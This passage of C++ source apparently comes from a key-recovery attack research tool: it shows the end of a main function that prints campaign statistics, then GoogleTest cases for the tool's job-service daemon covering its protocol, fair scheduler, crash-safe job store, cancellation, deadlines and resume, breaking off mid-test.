      std::printf("trace written         : %s (%zu events)\n", trace_path.c_str(),
                  obs::Tracer::global().event_count());
    } else {
      std::fprintf(stderr, "cannot write %s\n", trace_path.c_str());
      return 1;
    }
  }
  if (!metrics_path.empty()) {
    const std::string snapshot = obs::MetricsRegistry::global().snapshot().to_json();
    std::FILE* f = std::fopen(metrics_path.c_str(), "w");
    if (f == nullptr) {
      std::fprintf(stderr, "cannot write %s\n", metrics_path.c_str());
      return 1;
    }
    std::fwrite(snapshot.data(), 1, snapshot.size(), f);
    std::fclose(f);
    std::printf("metrics written       : %s\n", metrics_path.c_str());
  }

  std::printf("\n--- aggregate -----------------------------------------------------\n");
  std::printf("threads used          : %u\n", report.threads_used);
  if (report.crack_trials != 0) {
    std::printf("cracker verdicts      : %zu/%zu unique, %zu/%zu proven ambiguous%s\n",
                report.crack_unique_verdicts, report.crack_trials,
                report.crack_ambiguous_verdicts, report.crack_trials,
                opt.equalized ? " (equalized countermeasure)" : "");
    std::printf("adaptive probes       : %zu total across crack trials (vs the static\n"
                "                        C(n-32,32) bound per trial; see log2_static_bound)\n",
                report.total_adaptive_probes);
  } else {
    std::printf("unprotected           : %zu/%zu keys recovered\n",
                report.unprotected_successes, report.unprotected_trials);
  }
  if (report.protected_trials != 0) {
    std::printf("protected (Sec. VII)  : %zu/%zu trials resisted the attack\n",
                report.protected_resisted, report.protected_trials);
  }
  if (report.resumed_trials != 0) {
    std::printf("resumed from checkpoint: %zu trials\n", report.resumed_trials);
  }
  std::printf("oracle reconfigurations: %zu true + %zu cache hits (%zu probes)\n",
              report.total_oracle_runs, report.total_cache_hits, report.total_probe_calls);
  if (!opt.noise.quiet() || opt.fleet_size >= 2) {
    std::printf("physical runs          : %zu (= %zu logical + %zu retries + %zu votes "
                "+ %zu migration), %zu corrupt reads detected\n",
                report.total_physical_runs, report.total_oracle_runs, report.total_retry_runs,
                report.total_vote_runs, report.total_migration_runs,
                report.total_corruption_detections);
  }
  for (const auto& [phase, runs] : report.phase_run_totals) {
    std::printf("  %-10s %7zu\n", phase.c_str(), runs);
  }
  std::printf("wall clock            : %.1f s\n", report.wall_seconds);
  std::printf("fingerprint           : %016llx (thread-count independent)\n",
              static_cast<unsigned long long>(report.fingerprint()));
  std::printf("all trials as expected: %s\n", report.all_expected() ? "yes" : "NO");

  const std::string json = report.to_json();
  if (!json_path.empty()) {
    std::FILE* f = std::fopen(json_path.c_str(), "w");
    if (f == nullptr) {
      std::fprintf(stderr, "cannot write %s\n", json_path.c_str());
      return 1;
    }
    std::fwrite(json.data(), 1, json.size(), f);
    std::fclose(f);
    std::printf("report written        : %s\n", json_path.c_str());
  } else {
    std::printf("\n%s\n", json.c_str());
  }
  return report.all_expected() ? 0 : 1;
}
