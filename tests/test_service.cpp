// Campaign service (DESIGN.md §4h): wire protocol over a real socket, the
// weighted fair scheduler, job-store crash safety, backpressure, cancel,
// daemon-restart resume with fingerprint identity, and the metrics-schema
// parity between the daemon's per-job blocks and the CLI's report JSON.
#include <gtest/gtest.h>

#include <sys/stat.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <memory>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "common/fsio.h"
#include "common/json.h"
#include "common/rng.h"
#include "obs/metrics.h"
#include "obs/obs.h"
#include "service/client.h"
#include "service/job_store.h"
#include "service/protocol.h"
#include "service/scheduler.h"
#include "service/server.h"
#include "service/service.h"

namespace sbm::service {
namespace {

/// Fresh scratch path per call: tests must never inherit another test's
/// store (a stale record would be "resumed" and skew counts).
std::string fresh_path(const std::string& leaf) {
  static std::atomic<int> counter{0};
  return ::testing::TempDir() + "sbm-svc-" + leaf + "-" + std::to_string(::getpid()) + "-" +
         std::to_string(counter.fetch_add(1));
}

JobSpec synthetic_spec(size_t trials, u32 trial_ms = 0, const std::string& tenant = "t0") {
  JobSpec spec;
  spec.tenant = tenant;
  spec.mode = JobMode::kSynthetic;
  spec.synthetic_trial_ms = trial_ms;
  spec.options.trials = trials;
  spec.options.seed = 0x5eedf00d;
  spec.options.protected_every = 3;
  return spec;
}

ServiceOptions small_service(const std::string& store_dir, size_t workers = 1) {
  ServiceOptions opt;
  opt.store_dir = store_dir;
  opt.workers = workers;
  opt.pool_threads = 1;
  return opt;
}

/// Polls the service until `id` is terminal; returns the final view.
JobView wait_terminal(CampaignService& service, const std::string& id) {
  for (int i = 0; i < 4000; ++i) {
    const auto view = service.status(id);
    EXPECT_TRUE(view.has_value());
    if (!view) return JobView{};
    if (view->state == JobState::kDone || view->state == JobState::kFailed ||
        view->state == JobState::kCancelled || view->state == JobState::kDeadline) {
      return *view;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  ADD_FAILURE() << "job " << id << " never reached a terminal state";
  return JobView{};
}

// ---------------------------------------------------------------------------
// Protocol units

TEST(ServiceProtocol, RequestRoundTrip) {
  Request req;
  req.verb = Verb::kSubmit;
  req.request_id = "r-42";
  req.spec = synthetic_spec(7, 3, "acme");
  req.spec.weight = 2.5;

  std::string error;
  const auto parsed = parse_request(request_to_json(req), &error);
  ASSERT_TRUE(parsed.has_value()) << error;
  EXPECT_EQ(parsed->verb, Verb::kSubmit);
  EXPECT_EQ(parsed->request_id, "r-42");
  EXPECT_EQ(parsed->spec.tenant, "acme");
  EXPECT_EQ(parsed->spec.mode, JobMode::kSynthetic);
  EXPECT_EQ(parsed->spec.synthetic_trial_ms, 3u);
  EXPECT_EQ(parsed->spec.weight, 2.5);
  EXPECT_EQ(parsed->spec.options.trials, 7u);
  EXPECT_EQ(parsed->spec.options.seed, 0x5eedf00d);
  EXPECT_EQ(parsed->spec.options.protected_every, 3u);

  // The round trip reaches a fixpoint: re-rendering the parsed request
  // reproduces the original bytes.
  EXPECT_EQ(request_to_json(*parsed), request_to_json(req));
}

TEST(ServiceProtocol, MalformedRequestsAreRejected) {
  std::string error;
  EXPECT_FALSE(parse_request("not json", &error).has_value());
  EXPECT_FALSE(parse_request("[1,2]", &error).has_value());
  EXPECT_FALSE(parse_request("{\"verb\":\"frobnicate\"}", &error).has_value());
  EXPECT_FALSE(parse_request("{\"verb\":\"status\"}", &error).has_value());  // no id
  EXPECT_FALSE(parse_request("{\"verb\":\"submit\"}", &error).has_value());  // no job
  // Zero trials and out-of-range batch widths are spec errors, not crashes.
  EXPECT_FALSE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"trials\":0}}}", &error)
          .has_value());
  EXPECT_FALSE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"batch_width\":513}}}", &error)
          .has_value());
  // Widths up to the SIMD ceiling are accepted (clamped at runtime to the
  // active backend's lane count).
  EXPECT_TRUE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"batch_width\":512}}}", &error)
          .has_value());
  // Non-positive deadlines and zero fleet sizes are spec errors too: a
  // tenant either sets a real wall-clock budget or omits the field.
  EXPECT_FALSE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"deadline_seconds\":0}}}",
                    &error)
          .has_value());
  EXPECT_FALSE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"deadline_seconds\":-2}}}",
                    &error)
          .has_value());
  EXPECT_TRUE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"deadline_seconds\":1.5}}}",
                    &error)
          .has_value());
  EXPECT_FALSE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"fleet_size\":0}}}", &error)
          .has_value());
  EXPECT_FALSE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"fleet_size\":65}}}", &error)
          .has_value());
  EXPECT_TRUE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"fleet_size\":4}}}", &error)
          .has_value());
  // Unknown probe controllers are spec errors; the known kinds parse.
  EXPECT_FALSE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"controller\":\"turbo\"}}}",
                    &error)
          .has_value());
  EXPECT_TRUE(
      parse_request("{\"verb\":\"submit\",\"job\":{\"options\":{\"controller\":\"adaptive\"}}}",
                    &error)
          .has_value());
}

// ---------------------------------------------------------------------------
// Weighted fair scheduler

TEST(FairScheduler, WeightedShareUnderSaturation) {
  SchedulerLimits limits;
  FairScheduler sched(limits);
  for (int i = 0; i < 30; ++i) {
    ASSERT_FALSE(sched.push("light", 1.0, 1.0, "L" + std::to_string(i)).has_value());
    ASSERT_FALSE(sched.push("heavy", 2.0, 1.0, "H" + std::to_string(i)).has_value());
  }
  // Under saturation a weight-2 tenant must receive ~2x the dispatches of a
  // weight-1 tenant over any window.
  size_t heavy = 0;
  size_t light = 0;
  for (int i = 0; i < 30; ++i) {
    const auto id = sched.try_pop();
    ASSERT_TRUE(id.has_value());
    ((*id)[0] == 'H' ? heavy : light) += 1;
  }
  EXPECT_GE(heavy, 18u);
  EXPECT_GE(light, 9u);
  // The rest drains completely.
  size_t rest = 0;
  while (sched.try_pop().has_value()) ++rest;
  EXPECT_EQ(rest, 30u);
}

TEST(FairScheduler, DispatchOrderIsDeterministic) {
  auto run = [] {
    SchedulerLimits limits;
    FairScheduler sched(limits);
    for (int i = 0; i < 12; ++i) {
      sched.push("a", 1.0, 2.0, "a" + std::to_string(i));
      sched.push("b", 3.0, 2.0, "b" + std::to_string(i));
      sched.push("c", 1.5, 2.0, "c" + std::to_string(i));
    }
    std::string order;
    while (const auto id = sched.try_pop()) order += (*id)[0];
    return order;
  };
  const std::string first = run();
  EXPECT_EQ(first, run());
  EXPECT_EQ(first.size(), 36u);
}

TEST(FairScheduler, LateTenantGetsNoBankedCredit) {
  SchedulerLimits limits;
  FairScheduler sched(limits);
  for (int i = 0; i < 10; ++i) sched.push("busy", 1.0, 1.0, "x" + std::to_string(i));
  for (int i = 0; i < 5; ++i) sched.try_pop();  // virtual clock advances
  // A tenant that was idle the whole time starts at the current virtual
  // clock: its first job tags at V + 1 = 6, tying busy's head (also 6); the
  // tenant-name tie-break dispatches busy first, the newcomer second.  The
  // newcomer cannot leapfrog the whole backlog, and cannot be starved by it
  // either.
  sched.push("late", 1.0, 1.0, "late0");
  const auto first = sched.try_pop();
  const auto second = sched.try_pop();
  ASSERT_TRUE(first.has_value());
  ASSERT_TRUE(second.has_value());
  EXPECT_EQ(*first, "x5");
  EXPECT_EQ(*second, "late0");
  size_t busy_rest = 0;
  while (sched.try_pop().has_value()) ++busy_rest;
  EXPECT_EQ(busy_rest, 4u);
}

TEST(FairScheduler, BoundedQueuesRejectWithRetryHint) {
  SchedulerLimits limits;
  limits.per_tenant_capacity = 2;
  limits.total_capacity = 3;
  limits.workers = 1;
  FairScheduler sched(limits);
  sched.note_job_ms(200);  // seed the EWMA so hints are predictable-ish

  EXPECT_FALSE(sched.push("a", 1.0, 1.0, "a0").has_value());
  EXPECT_FALSE(sched.push("a", 1.0, 1.0, "a1").has_value());
  const auto tenant_full = sched.push("a", 1.0, 1.0, "a2");
  ASSERT_TRUE(tenant_full.has_value());
  EXPECT_EQ(tenant_full->code, 429);
  EXPECT_STREQ(tenant_full->reason, "tenant_queue_full");
  EXPECT_GT(tenant_full->retry_after_ms, 0u);

  EXPECT_FALSE(sched.push("b", 1.0, 1.0, "b0").has_value());
  const auto total_full = sched.push("b", 1.0, 1.0, "b1");
  ASSERT_TRUE(total_full.has_value());
  EXPECT_EQ(total_full->code, 429);
  EXPECT_STREQ(total_full->reason, "queue_full");

  // Deeper backlog, longer hint.
  EXPECT_GE(total_full->retry_after_ms, tenant_full->retry_after_ms);
}

TEST(FairScheduler, DrainAndHardClose) {
  SchedulerLimits limits;
  FairScheduler drain(limits);
  drain.push("a", 1.0, 1.0, "a0");
  drain.drain_close();
  EXPECT_EQ(drain.push("a", 1.0, 1.0, "a1")->code, 503);
  EXPECT_EQ(drain.pop_wait(), "a0");  // backlog still drains
  EXPECT_FALSE(drain.pop_wait().has_value());

  FairScheduler hard(limits);
  hard.push("a", 1.0, 1.0, "a0");
  hard.hard_close();
  EXPECT_FALSE(hard.pop_wait().has_value());  // immediate, backlog stays
}

// ---------------------------------------------------------------------------
// Job store durability

JobRecord sample_record(const std::string& id, u64 seq) {
  JobRecord rec;
  rec.id = id;
  rec.seq = seq;
  rec.spec = synthetic_spec(5, 0, "acme");
  rec.state = JobState::kQueued;
  rec.trials_done = 2;
  return rec;
}

TEST(JobStore, RecordRoundTripsThroughDisk) {
  const JobStore store(fresh_path("roundtrip"));
  JobRecord rec = sample_record("j-000007", 7);
  rec.state = JobState::kDone;
  rec.fingerprint = 0xabcdef0123456789ull;
  rec.all_expected = true;
  rec.resumed_trials = 2;
  rec.report_json = "{\"options\":{\"trials\":5},\"metrics\":{\"oracle_runs\":12}}";
  ASSERT_TRUE(store.save(rec));

  const JobStore::Loaded loaded = store.load_all();
  EXPECT_EQ(loaded.corrupt, 0u);
  ASSERT_EQ(loaded.jobs.size(), 1u);
  const JobRecord& got = loaded.jobs[0];
  EXPECT_EQ(got.id, rec.id);
  EXPECT_EQ(got.seq, rec.seq);
  EXPECT_EQ(got.state, JobState::kDone);
  EXPECT_EQ(got.fingerprint, rec.fingerprint);
  EXPECT_TRUE(got.all_expected);
  EXPECT_EQ(got.resumed_trials, 2u);
  EXPECT_EQ(got.spec.tenant, "acme");
  EXPECT_EQ(got.spec.options.trials, 5u);
  // report_json is re-rendered compactly; parse-equivalence is what matters.
  EXPECT_EQ(parse_json(got.report_json)->dump(), parse_json(rec.report_json)->dump());
}

TEST(JobStore, PartialWriteIsSkippedAndTmpDebrisSwept) {
  const std::string dir = fresh_path("crash");
  const JobStore store(dir);
  ASSERT_TRUE(store.save(sample_record("j-000001", 1)));
  ASSERT_TRUE(store.save(sample_record("j-000002", 2)));

  // Injected crash #1: a record whose write was cut mid-JSON (no atomic
  // rename would ever produce this, but disk corruption can).
  const std::string whole = job_record_to_json(sample_record("j-000002", 2));
  ASSERT_TRUE(write_file(store.job_path("j-000002"), whole.substr(0, whole.size() / 2)));

  // Injected crash #2: temp debris from a write interrupted before rename.
  const std::string tmp = store.job_path("j-000003") + ".tmp";
  ASSERT_TRUE(write_file(tmp, "{\"version\":1,\"id\":\"j-00"));

  const JobStore::Loaded loaded = store.load_all();
  EXPECT_EQ(loaded.corrupt, 1u);  // the truncated record is skipped, not fatal
  ASSERT_EQ(loaded.jobs.size(), 1u);
  EXPECT_EQ(loaded.jobs[0].id, "j-000001");
  struct stat st {};
  EXPECT_NE(::stat(tmp.c_str(), &st), 0) << "tmp debris must be swept";
}

TEST(JobStore, AtomicWriteLeavesOldContentOnFailure) {
  // write_file_atomic into a missing directory fails cleanly...
  EXPECT_FALSE(write_file_atomic(fresh_path("nodir") + "/sub/file.json", "x"));
  // ...and a successful rewrite replaces content in one step.
  const std::string dir = fresh_path("atomic");
  ::mkdir(dir.c_str(), 0777);
  const std::string path = dir + "/f.json";
  ASSERT_TRUE(write_file_atomic(path, "old"));
  ASSERT_TRUE(write_file_atomic(path, "new"));
  EXPECT_EQ(read_file(path).value_or(""), "new");
}

// ---------------------------------------------------------------------------
// Service over a real socket

struct DaemonFixture {
  std::string store_dir;
  std::string sock;
  CampaignService service;
  SocketServer server;

  explicit DaemonFixture(ServiceOptions svc_opt, const std::string& leaf)
      : store_dir(svc_opt.store_dir),
        sock(fresh_path(leaf + ".sock")),
        service(std::move(svc_opt)),
        server(service, [this] {
          ServerOptions opt;
          opt.unix_path = sock;
          return opt;
        }()) {
    std::string error;
    EXPECT_TRUE(server.start(&error)) << error;
  }

  ~DaemonFixture() {
    server.stop();
    service.stop_hard();
  }

  Client connect() {
    Client client;
    std::string error;
    EXPECT_TRUE(client.connect_unix(sock, &error)) << error;
    return client;
  }
};

TEST(ServiceSocket, ProtocolRoundTripOverUnixSocket) {
  DaemonFixture daemon(small_service(fresh_path("proto-store")), "proto");
  Client client = daemon.connect();

  // submit (with request_id echo)
  Request submit;
  submit.verb = Verb::kSubmit;
  submit.request_id = "req-1";
  submit.spec = synthetic_spec(3);
  const auto submitted = client.request(submit);
  ASSERT_TRUE(submitted.has_value());
  EXPECT_TRUE(submitted->find("ok")->as_bool());
  EXPECT_EQ(submitted->find("request_id")->as_string(), "req-1");
  const std::string id = submitted->find("id")->as_string();
  EXPECT_EQ(id, "j-000001");

  ASSERT_EQ(client.wait_done(id).value_or(""), "done");

  // status
  Request status;
  status.verb = Verb::kStatus;
  status.job_id = id;
  const auto st = client.request(status);
  ASSERT_TRUE(st.has_value());
  const JsonValue* job = st->find("job");
  ASSERT_NE(job, nullptr);
  EXPECT_EQ(job->find("state")->as_string(), "done");
  EXPECT_EQ(job->find("trials_done")->as_u64(), 3u);
  EXPECT_TRUE(job->find("all_expected")->as_bool());
  EXPECT_NE(job->find("fingerprint")->as_u64(), 0u);
  ASSERT_NE(job->find("metrics"), nullptr);

  // result carries the full campaign report
  Request result;
  result.verb = Verb::kResult;
  result.job_id = id;
  const auto res = client.request(result);
  ASSERT_TRUE(res.has_value());
  const JsonValue* report = res->find("report");
  ASSERT_NE(report, nullptr);
  EXPECT_EQ(report->find("options")->find("trials")->as_u64(), 3u);
  EXPECT_EQ(report->find("trials")->items.size(), 3u);

  // list
  Request list;
  list.verb = Verb::kList;
  const auto listed = client.request(list);
  ASSERT_TRUE(listed.has_value());
  EXPECT_EQ(listed->find("count")->as_u64(), 1u);
  EXPECT_EQ(listed->find("jobs")->items[0].find("id")->as_string(), id);

  // metrics
  Request metrics;
  metrics.verb = Verb::kMetrics;
  const auto snap = client.request(metrics);
  ASSERT_TRUE(snap.has_value());
  ASSERT_NE(snap->find("metrics"), nullptr);

  // error paths: malformed line, unknown job, cancel of a finished job
  const auto malformed = client.request_raw("this is not json");
  ASSERT_TRUE(malformed.has_value());
  EXPECT_FALSE(malformed->find("ok")->as_bool());
  EXPECT_EQ(malformed->find("code")->as_u64(), 400u);

  Request missing;
  missing.verb = Verb::kStatus;
  missing.job_id = "j-999999";
  const auto not_found = client.request(missing);
  ASSERT_TRUE(not_found.has_value());
  EXPECT_EQ(not_found->find("code")->as_u64(), 404u);

  Request cancel;
  cancel.verb = Verb::kCancel;
  cancel.job_id = id;
  const auto conflict = client.request(cancel);
  ASSERT_TRUE(conflict.has_value());
  EXPECT_EQ(conflict->find("code")->as_u64(), 409u);

  // shutdown (drain) stops the reactor; the embedder drains the service
  Request shutdown;
  shutdown.verb = Verb::kShutdown;
  const auto ack = client.request(shutdown);
  ASSERT_TRUE(ack.has_value());
  EXPECT_TRUE(ack->find("ok")->as_bool());
  daemon.server.wait();
  EXPECT_TRUE(daemon.server.shutdown_requested());
  EXPECT_TRUE(daemon.server.shutdown_drain());
  daemon.service.drain();
  EXPECT_FALSE(daemon.service.accepting());
}

TEST(ServiceSocket, TcpListenerServesTheSameProtocol) {
  ServiceOptions svc_opt = small_service(fresh_path("tcp-store"));
  CampaignService service(svc_opt);
  ServerOptions srv_opt;
  srv_opt.tcp = true;
  srv_opt.tcp_port = 0;  // ephemeral
  SocketServer server(service, srv_opt);
  std::string error;
  ASSERT_TRUE(server.start(&error)) << error;
  ASSERT_NE(server.tcp_port(), 0);

  Client client;
  ASSERT_TRUE(client.connect_tcp(server.tcp_port(), &error)) << error;
  const auto id = client.submit(synthetic_spec(2));
  ASSERT_TRUE(id.has_value());
  EXPECT_EQ(client.wait_done(*id).value_or(""), "done");
  server.stop();
  service.stop_hard();
}

TEST(ServiceSocket, PipelinedRequestsAnswerInOrder) {
  DaemonFixture daemon(small_service(fresh_path("pipe-store")), "pipe");
  Client client = daemon.connect();
  const auto id = client.submit(synthetic_spec(2));
  ASSERT_TRUE(id.has_value());
  ASSERT_EQ(client.wait_done(*id).value_or(""), "done");

  // Two pipelined lines in one write; responses come back in order with
  // their request_ids echoed.
  const auto first = client.request_raw("{\"verb\":\"status\",\"request_id\":\"p1\",\"id\":\"" +
                                        *id + "\"}\n{\"verb\":\"list\",\"request_id\":\"p2\"}");
  ASSERT_TRUE(first.has_value());
  EXPECT_EQ(first->find("request_id")->as_string(), "p1");
  Request list;  // read the second buffered response through a normal call
  list.verb = Verb::kList;
  list.request_id = "p3";
  const auto second = client.request(list);
  ASSERT_TRUE(second.has_value());
  EXPECT_EQ(second->find("request_id")->as_string(), "p2");
}

TEST(ServiceSocket, BackpressureRejectsWithRetryAfterUnderSaturation) {
  ServiceOptions svc_opt = small_service(fresh_path("bp-store"));
  svc_opt.limits.per_tenant_capacity = 2;
  svc_opt.limits.total_capacity = 4;
  DaemonFixture daemon(std::move(svc_opt), "bp");
  Client client = daemon.connect();

  // Slow jobs: the first occupies the single worker, the rest queue.
  const JobSpec slow = synthetic_spec(4, 50, "alpha");
  std::vector<std::string> accepted;
  int code = 0;
  size_t retry_after = 0;
  for (int i = 0; i < 8 && code == 0; ++i) {
    if (const auto id = client.submit(slow, &code, nullptr, &retry_after)) {
      accepted.push_back(*id);
      code = 0;
    }
  }
  EXPECT_EQ(code, 429);
  EXPECT_GT(retry_after, 0u) << "a 429 must carry an honest retry hint";
  EXPECT_GE(accepted.size(), 3u);  // 1 running + 2 queued

  // Per-tenant isolation: alpha being full must not block beta.
  JobSpec other = synthetic_spec(2, 0, "beta");
  int beta_code = 0;
  const auto beta_id = client.submit(other, &beta_code);
  EXPECT_TRUE(beta_id.has_value()) << "code " << beta_code;

  for (const std::string& id : accepted) EXPECT_EQ(client.wait_done(id).value_or(""), "done");
  const auto stats = daemon.service.stats();
  EXPECT_GE(stats.rejected, 1u);
}

TEST(ServiceSocket, CancelStopsARunningJob) {
  DaemonFixture daemon(small_service(fresh_path("cancel-store")), "cancel");
  Client client = daemon.connect();
  const auto id = client.submit(synthetic_spec(200, 10));
  ASSERT_TRUE(id.has_value());

  // Wait until it is actually running with some progress.
  Request status;
  status.verb = Verb::kStatus;
  status.job_id = *id;
  for (int i = 0; i < 2000; ++i) {
    const auto st = client.request(status);
    ASSERT_TRUE(st.has_value());
    const JsonValue* job = st->find("job");
    if (job->find("state")->as_string() == "running" && job->find("trials_done")->as_u64() >= 2) {
      break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }

  Request cancel;
  cancel.verb = Verb::kCancel;
  cancel.job_id = *id;
  const auto ack = client.request(cancel);
  ASSERT_TRUE(ack.has_value());
  EXPECT_TRUE(ack->find("ok")->as_bool());

  EXPECT_EQ(client.wait_done(*id).value_or(""), "cancelled");
  const auto view = daemon.service.status(*id);
  ASSERT_TRUE(view.has_value());
  EXPECT_LT(view->trials_done, 200u);
  EXPECT_GT(view->cancelled_trials, 0u);
  EXPECT_EQ(view->trials_done + view->cancelled_trials, 200u);
  // A cancelled job still has a (partial) report.
  EXPECT_TRUE(daemon.service.result_json(*id).has_value());
}

TEST(ServiceSocket, CancelQueuedJobNeverRuns) {
  ServiceOptions svc_opt = small_service(fresh_path("cq-store"));
  DaemonFixture daemon(std::move(svc_opt), "cq");
  Client client = daemon.connect();
  const auto blocker = client.submit(synthetic_spec(30, 20));  // occupies the worker
  const auto queued = client.submit(synthetic_spec(30, 20));
  ASSERT_TRUE(blocker.has_value());
  ASSERT_TRUE(queued.has_value());

  Request cancel;
  cancel.verb = Verb::kCancel;
  cancel.job_id = *queued;
  const auto ack = client.request(cancel);
  ASSERT_TRUE(ack.has_value());
  EXPECT_TRUE(ack->find("ok")->as_bool());
  EXPECT_EQ(ack->find("state")->as_string(), "cancelled");

  const JobView view = wait_terminal(daemon.service, *queued);
  EXPECT_EQ(view.state, JobState::kCancelled);
  EXPECT_EQ(view.trials_done, 0u);
  EXPECT_EQ(view.cancelled_trials, 30u);
  EXPECT_EQ(client.wait_done(*blocker).value_or(""), "done");
}

TEST(JobStore, TortureSweepEveryKillPointYieldsOldOrNewNeverCorrupt) {
  // Crash-recovery torture: simulate the process dying at randomized points
  // of a record rewrite.  The write protocol is write-temp + rename, so the
  // only on-disk states a kill can leave are (a) old record + partial .tmp
  // (killed before rename) and (b) the new record whole (killed after).  A
  // restart must load exactly the old or the new record — never a blend,
  // never a parse crash — and sweep the debris.
  const std::string dir = fresh_path("torture");
  const JobStore store(dir);
  JobRecord old_rec = sample_record("j-000042", 42);
  JobRecord new_rec = old_rec;
  new_rec.state = JobState::kRunning;
  new_rec.trials_done = 9;
  const std::string new_json = job_record_to_json(new_rec);
  const std::string tmp_path = store.job_path(new_rec.id) + ".tmp";

  Rng rng(0x70a7u);
  for (int i = 0; i < 24; ++i) {
    ASSERT_TRUE(store.save(old_rec));
    const size_t cut = rng.next_u64() % new_json.size();
    ASSERT_TRUE(write_file(tmp_path, new_json.substr(0, cut)));
    const JobStore::Loaded loaded = store.load_all();
    EXPECT_EQ(loaded.corrupt, 0u) << "kill point " << cut;
    ASSERT_EQ(loaded.jobs.size(), 1u) << "kill point " << cut;
    EXPECT_EQ(loaded.jobs[0].trials_done, old_rec.trials_done) << "kill point " << cut;
    EXPECT_EQ(loaded.jobs[0].state, JobState::kQueued) << "kill point " << cut;
    struct stat st {};
    EXPECT_NE(::stat(tmp_path.c_str(), &st), 0) << "tmp debris must be swept";
  }

  // Killed after the rename: the new record, whole.
  ASSERT_TRUE(store.save(new_rec));
  const JobStore::Loaded after = store.load_all();
  EXPECT_EQ(after.corrupt, 0u);
  ASSERT_EQ(after.jobs.size(), 1u);
  EXPECT_EQ(after.jobs[0].trials_done, 9u);
  EXPECT_EQ(after.jobs[0].state, JobState::kRunning);

  // Torn destination files (disk corruption — no kill point of the atomic
  // protocol produces this) are skipped and counted, never half-parsed.
  for (int i = 0; i < 16; ++i) {
    const size_t cut = 1 + rng.next_u64() % (new_json.size() - 1);
    ASSERT_TRUE(write_file(store.job_path(new_rec.id), new_json.substr(0, cut)));
    const JobStore::Loaded loaded = store.load_all();
    EXPECT_EQ(loaded.corrupt, 1u) << "cut " << cut;
    EXPECT_TRUE(loaded.jobs.empty()) << "cut " << cut;
  }
}

// ---------------------------------------------------------------------------
// Wall-clock deadlines

TEST(ServiceDeadline, JobExceedingItsBudgetFinalizesAsDeadlineExceeded) {
  const std::string store_dir = fresh_path("dl-store");
  std::string job_id;
  {
    DaemonFixture daemon(small_service(store_dir), "dl");
    Client client = daemon.connect();
    JobSpec spec = synthetic_spec(500, 10);
    spec.options.deadline_seconds = 0.05;  // a few trials, then over budget
    const auto id = client.submit(spec);
    ASSERT_TRUE(id.has_value());
    job_id = *id;

    const JobView view = wait_terminal(daemon.service, job_id);
    EXPECT_EQ(view.state, JobState::kDeadline);
    EXPECT_EQ(view.failure, "deadline_exceeded");
    EXPECT_GT(view.trials_done, 0u);
    EXPECT_LT(view.trials_done, 500u);

    // The wire protocol reports the distinct terminal state...
    Request status;
    status.verb = Verb::kStatus;
    status.job_id = job_id;
    const auto st = client.request(status);
    ASSERT_TRUE(st.has_value());
    EXPECT_EQ(st->find("job")->find("state")->as_string(), "deadline_exceeded");
    EXPECT_EQ(st->find("job")->find("failure")->as_string(), "deadline_exceeded");

    // ...a late cancel is a 409 like any finished job...
    Request cancel;
    cancel.verb = Verb::kCancel;
    cancel.job_id = job_id;
    const auto conflict = client.request(cancel);
    ASSERT_TRUE(conflict.has_value());
    EXPECT_EQ(conflict->find("code")->as_u64(), 409u);
    EXPECT_EQ(conflict->find("error")->as_string(), "already_finished");

    // ...the partial report survives, and the stats ledger is distinct from
    // tenant cancels.
    EXPECT_TRUE(daemon.service.result_json(job_id).has_value());
    const auto stats = daemon.service.stats();
    EXPECT_EQ(stats.deadline, 1u);
    EXPECT_EQ(stats.cancelled, 0u);
  }

  // A deadline-terminated job is finished, not interrupted: a daemon restart
  // over the same store must not resurrect it as queued.
  CampaignService revived(small_service(store_dir));
  EXPECT_EQ(revived.stats().resumed_jobs, 0u);
  const auto view = revived.status(job_id);
  ASSERT_TRUE(view.has_value());
  EXPECT_EQ(view->state, JobState::kDeadline);
  revived.drain();
}

TEST(ServiceDeadline, GenerousBudgetNeverFires) {
  DaemonFixture daemon(small_service(fresh_path("dlok-store")), "dlok");
  Client client = daemon.connect();
  JobSpec spec = synthetic_spec(3);
  spec.options.deadline_seconds = 3600;
  const auto id = client.submit(spec);
  ASSERT_TRUE(id.has_value());
  const JobView view = wait_terminal(daemon.service, *id);
  EXPECT_EQ(view.state, JobState::kDone);
  EXPECT_EQ(view.trials_done, 3u);
  EXPECT_EQ(daemon.service.stats().deadline, 0u);
}

// ---------------------------------------------------------------------------
// Restart / resume

TEST(ServiceRestart, InterruptedJobResumesWithIdenticalFingerprint) {
  const JobSpec spec = synthetic_spec(60, 5);

  // Reference: uninterrupted run on a single-threaded daemon.
  u64 reference_fp = 0;
  {
    ServiceOptions opt = small_service(fresh_path("ref-store"), /*workers=*/1);
    opt.pool_threads = 1;
    CampaignService service(opt);
    const auto submitted = service.submit(spec);
    ASSERT_TRUE(submitted.ok) << submitted.error;
    const JobView done = wait_terminal(service, submitted.id);
    ASSERT_EQ(done.state, JobState::kDone);
    reference_fp = done.fingerprint;
    ASSERT_NE(reference_fp, 0u);
    service.drain();
  }

  // Interrupted: same spec on a daemon with an 8-thread pool, hard-stopped
  // mid-run (the crash-shaped shutdown), then a fresh daemon over the same
  // store resumes and finishes.
  const std::string store_dir = fresh_path("resume-store");
  std::string job_id;
  size_t done_at_kill = 0;
  {
    ServiceOptions opt = small_service(store_dir, /*workers=*/1);
    opt.pool_threads = 8;
    CampaignService service(opt);
    const auto submitted = service.submit(spec);
    ASSERT_TRUE(submitted.ok) << submitted.error;
    job_id = submitted.id;
    for (int i = 0; i < 2000; ++i) {
      const auto view = service.status(job_id);
      ASSERT_TRUE(view.has_value());
      if (view->trials_done >= 10) break;
      std::this_thread::sleep_for(std::chrono::milliseconds(2));
    }
    service.stop_hard();
    const auto view = service.status(job_id);
    ASSERT_TRUE(view.has_value());
